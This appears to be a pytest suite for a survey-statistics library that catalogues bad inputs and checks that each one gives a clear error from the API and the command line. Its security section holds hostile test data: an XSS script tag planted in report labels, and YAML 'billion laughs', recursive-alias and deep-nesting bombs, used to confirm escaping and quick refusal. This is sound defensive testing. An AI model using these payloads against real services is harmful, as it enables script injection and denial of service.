"""The bad-input catalogue: every documented bad input gives a clear error, from the API and the CLI.

Each case builds its input in a temporary folder and returns two things: a zero-argument call of
the public API, and the equivalent command line. The API call must raise the given
``LearningDirectionError`` subclass with a message naming the problem; the command line must exit
with status 2 and print that message as one ``error:`` line (no traceback).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings, strategies as st
from hypothesis.extra.pandas import column, data_frames, indexes

import learning_direction as ld
from learning_direction.cli import main
from learning_direction.evaluation import run_evaluation
from learning_direction.evaluation.config import load_config
from learning_direction.exceptions import (
    ConfigError,
    DataValidationError,
    LearningDirectionError,
    ModelError,
    ReliabilityWarning,
    ScaleDefinitionError,
)

ENG = [f"eng_{k}" for k in range(1, 7)]
SALT = "test-salt-0123456789"


# ----------------------------------------------------------------------------- builders


def items_frame(n: int = 30, seed: int = 1) -> pd.DataFrame:
    """``id`` plus the six mentor_engagement items (1-7)."""
    rng = np.random.default_rng(seed)
    latent = rng.normal(size=n)
    df = pd.DataFrame({"id": [f"R{k:03d}" for k in range(n)]})
    for it in ENG:
        df[it] = np.clip(np.rint(4 + 1.2 * latent + rng.normal(0, 0.8, n)), 1, 7).astype(int)
    return df


def model_frame(n: int = 40, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    df = pd.DataFrame({"x": rng.normal(size=n), "m": rng.normal(size=n)})
    df["y"] = 0.3 * df["x"] + 0.4 * df["m"] + rng.normal(size=n)
    return df


def write_csv(tmp: Path, df: pd.DataFrame, name: str = "data.csv") -> Path:
    path = tmp / name
    df.to_csv(path, index=False)
    return path


def qualtrics(tmp: Path, kind: str) -> Path:
    """A small Qualtrics export with an extra ImportId row or without its question-text row."""
    names = ["StartDate", "EndDate", "Status", "ResponseId", *ENG]
    text = ["Start Date", "End Date", "Response Type", "Response ID", *[f"Item {k}" for k in ENG]]
    imp = [
        '"{""ImportId"":""startDate""}"',
        '"{""ImportId"":""endDate""}"',
        '"{""ImportId"":""status""}"',
        '"{""ImportId"":""_recordId""}"',
        *[f'"{{""ImportId"":""QID1_{k}""}}"' for k in range(1, 7)],
    ]
    rows = [
        ",".join(["2025-01-01 10:00:00", "2025-01-01 10:10:00", "0", f"R_{k}", *["4"] * 6])
        for k in range(4)
    ]
    header = [",".join(names)]
    if kind == "extra":
        header += [",".join(text), ",".join(imp), ",".join(imp)]
    else:  # missing question-text row
        header += [",".join(imp)]
    path = tmp / "qualtrics.csv"
    path.write_text("\n".join(header + rows) + "\n", encoding="utf-8")
    return path


def eval_config(tmp: Path, df: pd.DataFrame | None = None, **changes) -> Path:
    """A minimal evaluation config (one mentor CSV, mentor_engagement) with ``changes`` applied."""
    data = df if df is not None else items_frame()
    csv = write_csv(tmp, data, "mentors.csv")
    cfg = {
        "program": "Test program",
        "data": {"mentors": {"path": str(csv)}},
        "ids": {"mentors": "id"},
        "scales": {"mentor_engagement": {}},
        "analyses": {"reliability": True},
        "privacy": {"salt": SALT},
        "output": str(tmp / "out"),
    }
    for key, value in changes.items():
        node = cfg
        parts = key.split(".")
        for p in parts[:-1]:
            node = node.setdefault(p, {})
        node[parts[-1]] = value
    path = tmp / "evaluation.yaml"
    path.write_text(yaml.safe_dump(cfg, sort_keys=False), encoding="utf-8")
    return path


def bad_scale_yaml(tmp: Path) -> Path:
    path = tmp / "broken_scale.yaml"
    path.write_text("name: broken\nresponse: {min: 1, max: 7\nitems:\n  - {id: a}\n")
    return path


# ----------------------------------------------------------------------------- the catalogue

Case = tuple[str, Callable[[Path], tuple[Callable[[], object], list[str]]], type, str]


def _file_case(content: bytes | str, name: str = "data.csv"):
    def build(tmp: Path):
        path = tmp / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return (
            lambda: ld.read_survey(path),
            ["score", str(path), "--scale", "mentor_engagement"],
        )

    return build


def _score_case(
    mutate: Callable[[pd.DataFrame], pd.DataFrame],
    *,
    id_column: str | None = None,
    scale: str = "mentor_engagement",
    command: str = "score",
):
    def build(tmp: Path):
        df = mutate(items_frame())
        path = write_csv(tmp, df)
        extra = ["--id", id_column] if id_column else []
        if command == "score":
            return (
                lambda: ld.score(pd.read_csv(path), scale, id_column=id_column),
                ["score", str(path), "--scale", scale, *extra],
            )
        return (
            lambda: ld.reliability(pd.read_csv(path), scale),
            ["reliability", str(path), "--scale", scale],
        )

    return build


def _mediate_case(frame: Callable[[], pd.DataFrame], *, covariates=(), cluster=None, y: str = "y"):
    def build(tmp: Path):
        df = frame()
        path = write_csv(tmp, df)
        cli = [
            "mediate",
            str(path),
            "--x",
            "x",
            "--m",
            "m",
            "--y",
            y,
            "--n-boot",
            "200",
            "--seed",
            "1",
            "--no-progress",
        ]
        if covariates:
            cli += ["--covariates", *covariates]
        if cluster:
            cli += ["--cluster", cluster]
        return (
            lambda: ld.mediate(
                df,
                x="x",
                m="m",
                y=y,
                covariates=list(covariates),
                cluster=cluster,
                n_boot=200,
                seed=1,
                progress=False,
            ),
            cli,
        )

    return build


def _model_and_mediate(api: Callable[[pd.DataFrame], object], frame, **kw):
    """API: a regression-family call; CLI: the same data through `mediate`."""

    def build(tmp: Path):
        df = frame()
        _, cli = _mediate_case(lambda: df, **kw)(tmp)
        return (lambda: api(df), cli)

    return build


def _config_case(write: Callable[[Path], Path], *, run: bool = False):
    def build(tmp: Path):
        path = write(tmp)
        api = (lambda: run_evaluation(path)) if run else (lambda: load_config(path))
        return api, ["evaluate", str(path)]

    return build


def _collinear() -> pd.DataFrame:
    df = model_frame()
    df["x2"] = 2 * df["x"]
    return df


def _separated() -> pd.DataFrame:
    df = model_frame()
    df["b"] = (df["m"] > 0).astype(int)
    return df


def _cluster_missing() -> pd.DataFrame:
    df = model_frame()
    df["g"] = np.repeat(np.arange(10), 4).astype(float)
    df.loc[3, "g"] = np.nan
    return df


def _few_clusters() -> pd.DataFrame:
    df = model_frame()
    df["g"] = np.repeat(np.arange(4), 10)
    return df


def _set(col: str, rows, value):
    def mutate(df: pd.DataFrame) -> pd.DataFrame:
        df = df.copy()
        df[col] = df[col].astype(object)
        df.loc[rows, col] = value
        return df

    return mutate


def _duplicate_ids(df: pd.DataFrame) -> pd.DataFrame:
    df = df.copy()
    df.loc[5, "id"] = df.loc[4, "id"]
    return df


def _dup_eval(tmp: Path) -> Path:
    df = items_frame()
    df.loc[5, "id"] = df.loc[4, "id"]
    return eval_config(tmp, df)


def _malformed_config(tmp: Path) -> Path:
    path = tmp / "broken.yaml"
    path.write_text("program: p\ndata:\n  mentors: {path: x.csv\n")
    return path


CASES: list[Case] = [
    # files
    ("empty file", _file_case(b""), DataValidationError, "the file is empty"),
    ("header only", _file_case("id,eng_1,eng_2\n"), DataValidationError, "no data rows"),
    ("blank lines only", _file_case("\n\n\n"), DataValidationError, "the file is empty"),
    (
        "unknown extension",
        _file_case("a,b\n1,2\n", "data.json"),
        DataValidationError,
        "unknown file type '.json'",
    ),
    (
        "extra Qualtrics header row",
        lambda tmp: (
            lambda p: (lambda: ld.read_survey(p), ["score", str(p), "--scale", "mentor_engagement"])
        )(qualtrics(tmp, "extra")),
        DataValidationError,
        "ImportId row appears twice",
    ),
    (
        "missing Qualtrics header row",
        lambda tmp: (
            lambda p: (lambda: ld.read_survey(p), ["score", str(p), "--scale", "mentor_engagement"])
        )(qualtrics(tmp, "missing")),
        DataValidationError,
        "missing its question-text row",
    ),
    (
        "damaged SPSS file",
        _file_case(b"not really spss", "data.sav"),
        DataValidationError,
        "cannot be read as a SPSS .sav file",
    ),
    # respondents
    (
        "duplicate respondent ids",
        _score_case(_duplicate_ids, id_column="id"),
        DataValidationError,
        "duplicated respondent id",
    ),
    (
        "duplicate ids in an evaluation",
        _config_case(_dup_eval, run=True),
        DataValidationError,
        "duplicated respondent id",
    ),
    # items
    (
        "item with every answer missing",
        _score_case(_set("eng_3", slice(None), np.nan), command="reliability"),
        DataValidationError,
        "'eng_3' of scale 'mentor_engagement' have no answers at all",
    ),
    (
        "item with every answer missing in an evaluation",
        _config_case(
            lambda tmp: eval_config(tmp, _set("eng_2", slice(None), np.nan)(items_frame())),
            run=True,
        ),
        DataValidationError,
        "'eng_2' of scale 'mentor_engagement' have no answers at all",
    ),
    (
        "text in a numeric item",
        _score_case(_set("eng_2", [3], "often")),
        DataValidationError,
        "eng_2",
    ),
    (
        "out-of-range value",
        _score_case(_set("eng_4", [2, 7], 9)),
        DataValidationError,
        "has 2 invalid value(s) [9] in row(s) 2, 7",
    ),
    (
        "missing item column",
        _score_case(lambda df: df.drop(columns=["eng_5"])),
        DataValidationError,
        "'eng_5'",
    ),
    # definitions and configs
    (
        "unknown scale",
        _score_case(lambda df: df, scale="no_such_scale"),
        ScaleDefinitionError,
        "no_such_scale",
    ),
    (
        "malformed YAML in a scale file",
        lambda tmp: (
            lambda p: (
                lambda: ld.load_scale(p),
                ["score", str(write_csv(tmp, items_frame())), "--scale", str(p)],
            )
        )(bad_scale_yaml(tmp)),
        ScaleDefinitionError,
        "broken_scale.yaml",
    ),
    (
        "malformed YAML in a config",
        _config_case(_malformed_config),
        ConfigError,
        "malformed YAML",
    ),
    (
        "config pointing to a missing file",
        _config_case(lambda tmp: eval_config(tmp, **{"data.mentees": {"path": "gone.sav"}})),
        ConfigError,
        "file not found",
    ),
    (
        "config with an unknown key",
        _config_case(lambda tmp: eval_config(tmp, colour="blue")),
        ConfigError,
        "unknown key 'colour'",
    ),
    (
        "config naming an unknown scale",
        _config_case(lambda tmp: eval_config(tmp, scales={"no_such_scale": {}})),
        ConfigError,
        "no_such_scale",
    ),
    (
        "config naming an unknown id column",
        _config_case(lambda tmp: eval_config(tmp, ids={"mentors": "respondent"}), run=True),
        ConfigError,
        "ids.mentors: column 'respondent'",
    ),
    (
        "config naming an unknown identifier column",
        _config_case(lambda tmp: eval_config(tmp, identifiers={"mentors": ["e_mail"]}), run=True),
        DataValidationError,
        "identifier column(s) not in the data: 'e_mail'",
    ),
    (
        "config without a salt",
        _config_case(
            lambda tmp: eval_config(tmp, privacy={"salt_env": "LD_TEST_UNSET_SALT_VAR"}), run=True
        ),
        ConfigError,
        "LD_TEST_UNSET_SALT_VAR is not set",
    ),
    (
        "formula naming an unknown column",
        _model_and_mediate(
            lambda df: ld.regress(df, "y ~ x + nope"), model_frame, covariates=("nope",)
        ),
        DataValidationError,
        "'nope'",
    ),
    # models
    (
        "collinear predictors",
        _model_and_mediate(lambda df: ld.regress(df, "y ~ x + x2"), _collinear, covariates=("x2",)),
        ModelError,
        "collinear",
    ),
    (
        "perfect separation in a logistic model",
        _model_and_mediate(lambda df: ld.logit(df, "b ~ m"), _separated, y="b"),
        ModelError,
        "separat",
    ),
    (
        "fewer rows than parameters",
        _model_and_mediate(
            lambda df: ld.regress(df, "y ~ x + m + x2"),
            lambda: _collinear().head(3),
            covariates=("x2",),
        ),
        ModelError,
        "rows",
    ),
    (
        "cluster variable with missing values",
        _model_and_mediate(
            lambda df: ld.regress(df, "y ~ x", cluster="g"), _cluster_missing, cluster="g"
        ),
        DataValidationError,
        "cluster column 'g' has 1 missing value",
    ),
    (
        "too few clusters for a cluster bootstrap",
        _mediate_case(_few_clusters, cluster="g"),
        ModelError,
        "only 4 clusters",
    ),
    (
        "bootstrap on 3 rows",
        _mediate_case(lambda: model_frame().head(3)),
        ModelError,
        "only 3 complete rows",
    ),
    (
        "infinite values in a model column",
        _model_and_mediate(
            lambda df: ld.regress(df, "y ~ x + m"),
            lambda: model_frame().assign(y=lambda d: d["y"].where(d.index % 10 != 3, np.inf)),
        ),
        DataValidationError,
        "column 'y' has infinite values (inf or -inf) in row(s) 3, 13, 23, 33",
    ),
    (
        "outcome column with no values",
        _model_and_mediate(
            lambda df: ld.moderate(df, "x", "m", "y"), lambda: model_frame().assign(y=np.nan)
        ),
        DataValidationError,
        "column(s) 'y' have no values at all",
    ),
]


@pytest.mark.parametrize(("name", "build", "error", "needle"), CASES, ids=[c[0] for c in CASES])
def test_bad_input_api_and_cli(tmp_path, capsys, name, build, error, needle):
    api, cli = build(tmp_path)
    with pytest.raises(error) as info:
        api()
    assert isinstance(info.value, LearningDirectionError)
    assert needle in str(info.value), str(info.value)
    capsys.readouterr()
    code = main(cli)
    err = capsys.readouterr().err
    lines = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert code == 2, err
    assert len(lines) == 1 and needle in lines[0], err
    assert "Traceback" not in err


def test_catalogue_is_large_enough():
    assert len(CASES) >= 25


def test_constant_item_warns(tmp_path, capsys):
    df = items_frame()
    df["eng_2"] = 4
    with pytest.warns(ReliabilityWarning, match="'eng_2'.*zero variance"):
        ld.reliability(df, "mentor_engagement")
    path = write_csv(tmp_path, df)
    assert main(["reliability", str(path), "--scale", "mentor_engagement"]) == 0
    err = capsys.readouterr().err
    assert re.search(r"^warning: item 'eng_2'.*zero variance", err, re.M), err


def test_constant_item_warns_in_the_evaluation_report(tmp_path):
    df = items_frame()
    df["eng_2"] = 4
    html = run_evaluation(eval_config(tmp_path, df)).read_text(encoding="utf-8")
    assert "WARNING (mentor_engagement): item &#x27;eng_2&#x27;" in html
    assert "zero variance" in html


# ----------------------------------------------------------------------------- security


def test_script_in_column_label_and_group_name_is_escaped(tmp_path):
    evil = "<script>alert(1)</script>"
    df = items_frame(24)
    col = f"site{evil}"
    df[col] = [evil] * 12 + ["Leeds"] * 12
    df[f"Q{evil}"] = df["eng_1"]
    scale = tmp_path / "custom.yaml"
    scale.write_text(
        yaml.safe_dump(
            {
                "name": "custom",
                "title": f"Custom {evil}",
                "respondent": "mentor",
                "response": {"min": 1, "max": 7, "labels": {1: evil}},
                "items": [{"id": f"c{k}", "text": f"Item {evil}"} for k in range(1, 4)],
            }
        )
    )
    cfg = eval_config(
        tmp_path,
        df,
        title=f"Report {evil}",
        program=f"Program {evil}",
        groups={f"site{evil}": col},
        scales={
            "mentor_engagement": {},
            "custom": {
                "file": str(scale),
                "columns": {"c1": f"Q{evil}", "c2": "eng_2", "c3": "eng_3"},
            },
        },
    )
    html_path = run_evaluation(cfg)
    page = html_path.read_text(encoding="utf-8")
    assert "<script>" not in page
    assert "&lt;script&gt;" in page
    assert "Custom &lt;script&gt;alert(1)&lt;/script&gt;" in page
    side = json.loads(html_path.with_suffix(".json").read_text())
    assert side["config"]["privacy"]["salt"] == "<redacted>"


# ----------------------------------------------------------------------------- scoring keeps rows


_answer = st.one_of(
    st.none(),
    st.integers(-3, 12),
    st.floats(allow_nan=True, allow_infinity=False, width=32),
    st.sampled_from(["", " ", "Strongly agree", "abc", "4", "7.0"]),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    data_frames(
        [column(c, elements=_answer, dtype=object) for c in ENG],
        index=indexes(
            elements=st.one_of(st.integers(-1000, 1000), st.text(max_size=4)),
            min_size=0,
            max_size=25,
            unique=True,
        ),
    )
)
def test_scoring_never_loses_a_row(df):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        res = ld.score(df, "mentor_engagement", invalid="missing")
    assert len(res.scores) == len(df)
    assert res.scores.index.equals(df.index)
    assert res.n_answered.index.equals(df.index)
    assert res.n == len(df)


def test_scoring_zero_rows_of_text_columns():
    df = pd.DataFrame({c: pd.Series([], dtype=object) for c in ENG})
    res = ld.score(df, "mentor_engagement", invalid="missing")
    assert len(res.scores) == 0


def test_no_complete_row_names_the_missing_columns():
    """When the missing values of different columns never leave a complete row, the error says
    how many each column misses instead of failing later with a constant-column message."""
    df = model_frame(6)
    df.loc[:2, "x"] = np.nan
    df.loc[3:, "m"] = np.nan
    with pytest.raises(DataValidationError, match=r"every row misses .*x: 3 missing, m: 3 missing"):
        ld.mediate(df, "x", "m", "y", n_boot=200, seed=1)


# --- regression/mixed robustness


def _dup_columns(df: pd.DataFrame, name: str) -> pd.DataFrame:
    """``df`` plus a second column called ``name`` (as a spreadsheet with two 'x' headers)."""
    return pd.concat([df, df[[name]] + 1], axis=1)


@pytest.mark.parametrize(
    "fit",
    [
        lambda df: ld.regress(df, "y ~ x + m"),
        lambda df: ld.logit(df.assign(b=(df["y"] > 0).astype(int)), "b ~ x + m"),
        lambda df: ld.mixed(df.assign(g=np.arange(len(df)) % 8), "y ~ x + m", groups="g"),
        lambda df: ld.moderate(df, "x", "m", "y"),
        lambda df: ld.mediate(df, "x", "m", "y", n_boot=200, seed=1),
    ],
    ids=["regress", "logit", "mixed", "moderate", "mediate"],
)
def test_duplicate_column_name_is_named(fit):
    df = _dup_columns(model_frame(), "x")
    with pytest.raises(DataValidationError, match=r"same name: 'x' \(2 times\).*Rename them"):
        fit(df)


def test_duplicate_column_name_in_cluster_or_groups_column():
    df = _dup_columns(model_frame().assign(g=np.arange(40) % 8), "g")
    with pytest.raises(DataValidationError, match="'g' \\(2 times\\)"):
        ld.regress(df, "y ~ x", cluster="g")
    with pytest.raises(DataValidationError, match="'g' \\(2 times\\)"):
        ld.mixed(df, "y ~ x", groups="g")
    # a duplicated column the analysis does not use is no problem
    assert ld.regress(df, "y ~ x + m").n == 40


@pytest.mark.filterwarnings("ignore::learning_direction.exceptions.ModelWarning")
def test_nullable_boolean_and_int_columns_in_models():
    """pandas' nullable dtypes (with pd.NA) are left out like NaN and then fit as bool/float."""
    df = model_frame()
    df["w"] = pd.array(df["m"] > 0, dtype="boolean")
    df["k"] = pd.array(np.arange(40) % 3, dtype="Int64")
    df.loc[[1, 2], "w"] = pd.NA
    df.loc[5, "k"] = pd.NA
    res = ld.regress(df, "y ~ x + w + k")
    assert (res.n, res.n_dropped) == (37, 3)
    assert "w[T.True]" in set(res.table["term"])
    mod = ld.moderate(df, "x", "m", "y", covariates=["w", "k"])
    assert mod.n == 37
    lg = ld.logit(df.assign(b=pd.array(df["y"] > 0, dtype="boolean")), "b ~ x + k")
    assert lg.n == 39
    mx = ld.mixed(df.assign(g=np.arange(40) % 8), "y ~ x + w", groups="g")
    assert mx.n == 38


def test_one_cluster_is_a_model_error_not_a_crash():
    df = model_frame().assign(site="A")
    with pytest.raises(ModelError, match=r"cluster column 'site' has 1 distinct value"):
        ld.regress(df, "y ~ x + m", cluster="site")
    with pytest.raises(ModelError, match=r"cluster column 'site'"):
        ld.moderate(df, "x", "m", "y", cluster="site")


# ============================================================================= issue 13 catalogue
#
# One section per class of bad input found by the reliability/security review. Each class is
# a family of inputs (not one file): every member must give a clear error (exit 2, one line
# naming the input) or a documented, reported result; never a crash, a hang, a silent change
# or a leak.


def cli_error(capsys, argv: list[str]) -> tuple[int, str]:
    """Run the command line; return the exit code and the one ``error:`` line (or stderr)."""
    capsys.readouterr()
    code = main(argv)
    err = capsys.readouterr().err
    lines = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert "Traceback" not in err
    return code, (lines[0] if len(lines) == 1 else err)


# ----------------------------------------------------------------------------- 5. YAML bombs


def _laughs(levels: int, width: int = 9) -> str:
    """A "billion laughs" document: each level an anchored list of ``width`` aliases."""
    out = ['a0: &a0 ["lol"]']
    for k in range(1, levels + 1):
        out.append(f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * width)}]")
    return "\n".join(out) + "\n"


YAML_BOMBS = {
    "billion laughs, 7 levels": _laughs(7),
    "billion laughs, 8 levels": _laughs(8),
    "recursive alias": "a: &a [1, *a]\n",
    "deep nesting": "a: " + "[" * 5000 + "]" * 5000 + "\n",
    "merge-key fan-out": "b: &b {x: 1}\n"
    + "".join(f"k{k}: {{<<: *b}}\n" for k in range(20))
    + _laughs(7),
}


@pytest.mark.parametrize("text", YAML_BOMBS.values(), ids=YAML_BOMBS.keys())
@pytest.mark.parametrize("where", ["config", "columns map", "scale file"])
def test_yaml_bombs_are_refused_quickly_with_a_short_message(tmp_path, capsys, text, where):
    import time

    path = tmp_path / "bomb.yaml"
    data = write_csv(tmp_path, items_frame())
    if where == "config":
        path.write_text(text, encoding="utf-8")
        argv = ["evaluate", str(path), "--check"]
        api = lambda: load_config(path)  # noqa: E731
    elif where == "columns map":
        path.write_text(text, encoding="utf-8")
        argv = ["score", str(data), "--scale", "mentor_engagement", "--columns", str(path)]
        api = None
    else:
        path.write_text("name: bomb\nresponse: {min: 1, max: 7}\nitems: [eng_1]\n" + text)
        argv = ["score", str(data), "--scale", str(path)]
        api = lambda: ld.load_scale(path)  # noqa: E731
    start = time.perf_counter()
    code, line = cli_error(capsys, argv)
    assert code == 2 and line.startswith("error:"), line
    assert len(line) < 600, line[:300]
    assert "bomb.yaml" in line
    assert time.perf_counter() - start < 5
    if api is not None:
        with pytest.raises(LearningDirectionError):
            api()


def test_yaml_within_the_limits_with_anchors_still_works(tmp_path):
    """Anchors, aliases and merge keys are fine while the expanded document stays small."""
    csv = write_csv(tmp_path, items_frame(), "mentors.csv")
    path = tmp_path / "anchored.yaml"
    path.write_text(
        "program: p\n"
        f"data: {{mentors: &m {{path: {csv}}}}}\n"
        "ids: {mentors: id}\n"
        "scales: {mentor_engagement: {}}\n"
        "x_shared: &grp {min_group_size: 3}\n".replace("x_shared: ", "report: ")
        + f"privacy: {{salt: {SALT}}}\n",
        encoding="utf-8",
    )
    cfg = load_config(path)
    assert cfg.report.min_group_size == 3 and cfg.privacy.salt == SALT
    from learning_direction._core.safe_yaml import load_yaml

    data, _ = load_yaml(
        "base: &b {x: 1, y: [1, 2]}\nk1: {<<: *b, z: 3}\nk2: *b\n", "t", ConfigError
    )
    assert data["k1"] == {"x": 1, "y": [1, 2], "z": 3} and data["k2"] == {"x": 1, "y": [1, 2]}


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        ("x" * 2_000_001, "more than the 1,000,000 allowed"),
        ("program: p\ntitle: " + "x" * 5000 + ": [\n", "malformed YAML"),
        ("program: p\nseed: 1" + "0" * 5000 + "\n", "cannot be read"),
    ],
    ids=["huge config", "long line", "5000-digit number"],
)
def test_config_sizes_and_echoes_are_capped(tmp_path, capsys, content, needle):
    path = tmp_path / "c.yaml"
    path.write_text(content, encoding="utf-8")
    code, line = cli_error(capsys, ["evaluate", str(path), "--check"])
    assert code == 2 and needle in line, line[:300]
    assert len(line) < 600


def test_echoed_config_values_are_capped(tmp_path):
    cfg = eval_config(tmp_path, seed="x" * 100_000, **{"k" * 10_000: 1})
    with pytest.raises(ConfigError) as info:
        load_config(cfg)
    assert len(str(info.value)) < 2000
    assert "characters)" in str(info.value)


# ----------------------------------------------------------------------------- 6. every iterative routine ends


@contextlib.contextmanager
def _time_limit(seconds: float):
    """Fail (instead of hanging the suite) when the block runs longer than ``seconds``."""

    def stop(signum, frame):
        raise TimeoutError(f"did not finish within {seconds} s")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


_DEGENERATE_ITEMS = {
    "six identical items": (lambda x, r: {k: x for k in ENG}, "are perfectly collinear"),
    "identical after reversal": (
        lambda x, r: {k: (x if k != "eng_6" else 8 - x) for k in ENG}, "are perfectly collinear"
    ),
    "two identical pairs": (
        lambda x, r: {k: (x if k in ("eng_1", "eng_2") else r.integers(1, 8, len(x))) for k in ENG}
        | {"eng_4": (x * 3) % 7 + 1, "eng_5": (x * 3) % 7 + 1},
        "are perfectly collinear",
    ),
    "constant items": (lambda x, r: {k: np.full(len(x), 4) for k in ENG}, "zero variance"),
}  # fmt: skip


@pytest.mark.skipif(not hasattr(__import__("signal"), "setitimer"), reason="no POSIX alarm")
@pytest.mark.parametrize("case", _DEGENERATE_ITEMS.values(), ids=_DEGENERATE_ITEMS.keys())
def test_cfa_on_degenerate_items_stops_promptly_with_a_clear_error(case):
    """``ld.cfa`` on six identical items used to loop for ever in the RMSEA interval search."""
    make, needle = case
    rng = np.random.default_rng(5)
    df = pd.DataFrame(make(rng.integers(1, 8, 120), rng))
    with _time_limit(120), pytest.raises(LearningDirectionError, match=needle) as info:
        ld.cfa(df, "mentor_engagement")
    assert "'eng_" in str(info.value)  # the items are named


def test_sem_rmsea_interval_never_searches_without_end():
    """The SEM engine's RMSEA interval: a non-finite or astronomically large chi-square gives
    NaN bounds (not a made-up [0, 0], not a solver crash), quickly; ordinary values agree with
    the CFA's own (lavaan-checked) interval."""
    import math
    import time

    from learning_direction.models.sem.fitmeasures import rmsea_ci
    from learning_direction.scales._fit_indices import rmsea_ci as cfa_rmsea_ci

    start = time.perf_counter()
    for x2 in (math.inf, 1e300, 1e20):
        low, high = rmsea_ci(x2, 9, 200)
        assert math.isnan(low) and math.isnan(high), (x2, low, high)
    assert time.perf_counter() - start < 10
    for x2, df in ((85.3, 24), (30.0, 9), (2.0, 9)):
        assert rmsea_ci(x2, df, 301) == pytest.approx(cfa_rmsea_ci(x2, df, 301), abs=1e-9)
    assert rmsea_ci(0.0, 9, 200) == (0.0, 0.0)  # a perfect fit: both bounds 0, as lavaan


def test_iterative_fits_stop_at_their_iteration_bound():
    """An optimiser that runs out of iterations says so, with the way out (never loops, never
    reports the fit as converged). The mixed-model engine's bound is tested in
    test_lmm_engine.py (test_max_iter_warns_and_reports_no_convergence)."""
    df = items_frame(80, seed=4)
    with pytest.raises(ModelError, match="did not converge"):
        ld.sem(df, "f =~ eng_1 + eng_2 + eng_3 + eng_4", max_iter=1)


# ----------------------------------------------------------------------------- 11. impossible statistics


@pytest.mark.parametrize(
    "make",
    [
        lambda x: {f"eng_{k}": x for k in range(1, 6)} | {"eng_6": 8 - x},  # all r = 1 after keying
        lambda x: {f"eng_{k}": x for k in range(1, 7)},  # identical raw answers, eng_6 reversed
        lambda x: {f"eng_{k}": (x if k < 3 else (x * k) % 7 + 1) for k in range(1, 7)},  # one pair
    ],
    ids=["all perfectly correlated", "perfect negative after reversal", "one identical pair"],
)
def test_reliability_never_prints_an_impossible_g6(tmp_path, capsys, make):
    rng = np.random.default_rng(3)
    x = rng.integers(1, 8, 60)
    df = pd.DataFrame(make(x))
    with pytest.warns(ReliabilityWarning, match="G6 is undefined: .*singular"):
        res = ld.reliability(df, "mentor_engagement")
    t = res.table.iloc[0]
    assert np.isnan(t["g6"])
    for key in ("alpha", "std_alpha", "average_r", "omega_total"):
        assert np.isnan(t[key]) or t[key] <= 1.0
    assert (res.items[["r_drop", "raw_r", "std_r"]].abs().fillna(0) <= 1.0).all().all()
    assert any("G6 is undefined" in n for n in res.notes)
    path = write_csv(tmp_path, df)
    assert main(["reliability", str(path), "--scale", "mentor_engagement"]) == 0
    out, err = capsys.readouterr()
    assert "warning: 'mentor_engagement': G6 is undefined" in err
    assert "-5.0" not in out and "-12.5" not in out


def test_reliability_g6_of_ordinary_items_is_unchanged():
    res = ld.reliability(ld.load_dataset("study1"), "learning_direction")
    assert res.table["g6"].between(0, 1).all()


@pytest.mark.parametrize(
    "call",
    [
        lambda df: ld.reliability(df, "mentor_engagement", columns={"eng_1": "eng_2"}),
        lambda df: ld.score(df, "mentor_engagement", columns={"eng_1": "eng_2"}),
    ],
    ids=["reliability", "score"],
)
def test_one_column_feeding_two_items_is_refused_alike(call):
    with pytest.raises(DataValidationError, match=r"'eng_2' -> items 'eng_1', 'eng_2'"):
        call(items_frame())


@pytest.mark.parametrize("command", ["score", "reliability"])
def test_columns_map_feeding_two_items_is_refused_by_the_cli(tmp_path, capsys, command):
    data = write_csv(tmp_path, items_frame())
    cmap = tmp_path / "map.yaml"
    cmap.write_text("mentor_engagement: {eng_1: eng_3, eng_2: eng_3}\n")
    code, line = cli_error(
        capsys, [command, str(data), "--scale", "mentor_engagement", "--columns", str(cmap)]
    )
    assert code == 2 and "column 'eng_3' is mapped to items 'eng_1' and 'eng_2'" in line, line
    cmap.write_text("eng_1: eng_3\nmentor_engagement: {eng_1: eng_4}\n")
    code, line = cli_error(
        capsys, [command, str(data), "--scale", "mentor_engagement", "--columns", str(cmap)]
    )
    assert code == 2 and "item 'eng_1' is mapped twice" in line, line


# ----------------------------------------------------------------------------- 1. records over lines, ragged rows


def _rows(n: int = 40, comment: dict[int, str] | None = None) -> list[str]:
    """Lines of an export: id, six items, a free-text comment (quoted where given)."""
    comment = comment or {}
    out = ["id," + ",".join(ENG) + ",comment"]
    for k in range(n):
        out.append(f"R{k:03d}," + ",".join(str(1 + (k + j) % 7) for j in range(6)) + ","
                   + comment.get(k, "fine"))  # fmt: skip
    return out


def test_runaway_quote_is_an_error_naming_where_it_opens_and_closes(tmp_path, capsys):
    lines = _rows()
    lines[10] = lines[10].replace(",fine", ',"I liked it, but')  # opens on line 11 ...
    lines[17] = lines[17] + '"'  # ... and closes on line 18
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError) as info:
        ld.read_survey(path)
    msg = str(info.value)
    assert "opens on line 11 and closes only on line 18" in msg
    assert "look like rows of their own" in msg
    code, line = cli_error(capsys, ["score", str(path), "--scale", "mentor_engagement"])
    assert code == 2 and "line 11" in line


def test_runaway_quote_in_the_last_field_cannot_hide_rows(tmp_path):
    """The quote opens in the last column and closes at the end of a later line: every
    record has the header's field count, yet seven respondents would vanish."""
    lines = _rows()
    lines[10] = lines[10].replace(",fine", ',"It was')
    lines[17] = lines[17].replace(",fine", ',fine"')
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DataValidationError, match="opens on line 11 and closes only on line 18"):
        ld.read_survey(path)


def test_legitimate_line_breaks_in_a_comment_are_kept_and_reported(tmp_path):
    lines = _rows(comment={4: '"first line\nsecond line"', 9: '"a\r\nb\r\nc"'})
    path = tmp_path / "data.csv"
    path.write_text("\n".join(lines) + "\n", newline="")
    s = ld.read_survey(path)
    assert len(s.data) == 40 and s.report.n_rows_read == 40
